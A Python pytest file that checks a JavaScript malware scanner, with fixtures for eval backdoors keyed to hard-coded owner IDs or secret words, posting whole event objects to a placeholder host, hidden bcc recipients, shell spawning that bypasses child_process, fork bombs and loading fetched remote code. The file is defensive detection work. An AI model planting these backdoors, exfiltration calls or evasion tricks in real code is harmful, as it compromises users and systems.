"""Who else is told, for whom a command waits, what shipped data names, and which ways lead past the modules."""

import pytest

from scanners.facts import Act, Fact, Label, Trick
from scanners.javascript import read_scripts
from tests.scanners.javascript.reading import read, source

FAVOURING = {
    "author": "if (message.author.id === '384712947123847123') eval(message.content);",
    "constant": "if (message.author.id === OWNER) eval(message.content);",
    "leaving": "if (message.author.id !== OWNER) return; eval(message.content);",
    "list": "if ([OWNER, '384712947123847124'].includes(message.author.id)) eval(message.content);",
    "and": "message.author.id === OWNER && eval(message.content);",
    "ternary": "return message.author.id === OWNER ? eval(message.content) : null;",
    "key": "if (message.headers['x-a'] === 'f00dbabe') eval(message.content);",
    "word": "if (message.content.startsWith('~zx81q ')) eval(message.content);",
}
FAIR = {
    "setting": "if (message.author.id === config.owner) eval(message.content);",
    "command": "if (message.content.startsWith('!eval ')) eval(message.content);",
    "kind": "if (message.kind === 'code') eval(message.content);",
}
WHOLE = {
    "body": "fetch(U, { method: 'POST', body: JSON.stringify({ event, context }) });",
    "client": "require('axios').post(U, event);",
    "nested": "require('axios').post(U, { data: { event } });",
}
PART = {
    "field": "fetch(U, { method: 'POST', body: JSON.stringify({ t: event.text }) });",
    "made of it": "fetch(U, { method: 'POST', body: JSON.stringify(pick(event)) });",
}
ANSWERS = {
    "fetch(U, { method: 'POST', body: x });": True,
    "await fetch(U, { method: 'POST', body: x });": True,
    "fetch(U, { method: 'POST', body: x }).catch(() => {});": True,
    "const r = await fetch(U, { method: 'POST', body: x });": False,
    "return fetch(U, { method: 'POST', body: x });": False,
    "fetch(U, { method: 'POST', body: x }).then((r) => show(r));": False,
}
STARTED = {
    "binding": "process.binding('spawn_sync').spawn({ file: 'sh', args: ['sh', '-c', 'id'] });",
    "wrap": "const { Process } = process.binding('process_wrap');"
    "new Process().spawn({ file: 'sh', args: ['sh', '-c', 'id'] });",
    "bound call": "Function.prototype.call.bind(require('child_process').exec, null)('id');",
    "proxy": "const all = new Proxy({}, { get: (t, n) => require(n) }); all.child_process.exec('id');",
}  # fmt: skip
USED_UP = {
    "for (;;) fork(__filename);": "processes",
    "while (true) { kept.push(Buffer.alloc(9)); }": "memory",
    "while (true) { fs.appendFileSync('a', 'b'); }": "disk",
    "while (true) {}": "processor",
    "while (Date.now() > 9e15) new Array(1e9).fill(0);": "memory",
    "while (true) { if (done()) break; }": "",
    "while (true) { await next(); }": "",
}


def facts_of(text: str, act: Act) -> list[Fact]:
    return [fact for fact in read(text).facts if fact.act is act]


@pytest.mark.parametrize("name", FAVOURING)
def test_code_for_somebody_the_script_names_is_favoured(name: str) -> None:
    text = f"const OWNER = '384712947123847123'; exports.run = (message) => {{ {FAVOURING[name]} }};"
    assert any(Trick.FAVOURED in fact.tricks for fact in facts_of(text, Act.CODE_EVAL))


@pytest.mark.parametrize("name", FAIR)
def test_code_for_whom_the_owner_names_is_not_favoured(name: str) -> None:
    facts = facts_of(f"exports.run = (message, config) => {{ {FAIR[name]} }};", Act.CODE_EVAL)
    assert facts
    assert not any(Trick.FAVOURED in fact.tricks for fact in facts)


def is_whole(text: str) -> bool:
    script = f"const U = 'https://a.example.invalid'; exports.run = async (event, context) => {{ {text} event.text; }};"
    origins = [origin for fact in facts_of(script, Act.NETWORK_SEND) for origin in fact.origins]
    return any(origin.label is Label.MESSAGE and origin.name == "*" for origin in origins)


@pytest.mark.parametrize("name", WHOLE)
def test_event_as_a_whole_keeps_its_mark(name: str) -> None:
    assert is_whole(WHOLE[name])


@pytest.mark.parametrize("name", PART)
def test_part_of_an_event_is_not_the_whole(name: str) -> None:
    assert not is_whole(PART[name])


@pytest.mark.parametrize("text", ANSWERS)
def test_answer_that_nobody_reads_is_a_trick(text: str) -> None:
    script = f"const U = 'https://a.example.invalid'; exports.run = async (x) => {{ {text} }};"
    facts = facts_of(script, Act.NETWORK_SEND)
    assert facts
    assert any(Trick.UNANSWERED in fact.tricks for fact in facts) is ANSWERS[text]


def test_hidden_recipient_of_a_mail_is_a_fact() -> None:
    text = "exports.run = (s, t) => s.sendMail({ to: s.to, bcc: 'a@b.example', text: t });"
    assert {fact.detail for fact in facts_of(text, Act.MESSAGE_ADDRESS)} == {"to: {}", "bcc: a@b.example"}


@pytest.mark.parametrize("name", STARTED)
def test_way_past_the_module_starts_a_program(name: str) -> None:
    assert any(fact.detail in ("id", "sh -c id") for fact in facts_of(STARTED[name], Act.PROCESS_START))


@pytest.mark.parametrize("text", USED_UP)
def test_endless_loop_is_known_by_what_it_takes(text: str) -> None:
    facts = facts_of(f"async function f() {{ {text} }} f();", Act.RESOURCE_EXHAUST)
    assert [fact.detail for fact in facts] == ([USED_UP[text]] if USED_UP[text] else [])


def test_shipped_data_names_what_is_called() -> None:
    text = "const steps = require('./s.json'); for (const s of steps) require(s.m)[s.f](...s.a);"
    shipped = {"s.json": '[{"m": "child_process", "f": "exec", "a": ["id"]}]'}
    facts = read_scripts([source("index.js", text)], entry_points=(), shipped=shipped).facts
    started = next(fact for fact in facts if fact.act is Act.PROCESS_START)
    assert (started.detail, Trick.NAMED_IN_DATA in started.tricks) == ("id", True)


def test_file_that_came_over_the_network_is_loaded_with_its_origin() -> None:
    text = """
    const fs = require("fs"), { pipeline } = require("stream/promises");
    exports.run = async () => {
      const answer = await fetch("https://a.example.invalid/x.js");
      await pipeline(answer.body, fs.createWriteStream("./cache/x.js"));
      require("./cache/x.js");
    };
    """
    assert any(Label.NETWORK in fact.labels for fact in facts_of(text, Act.CODE_LOAD))
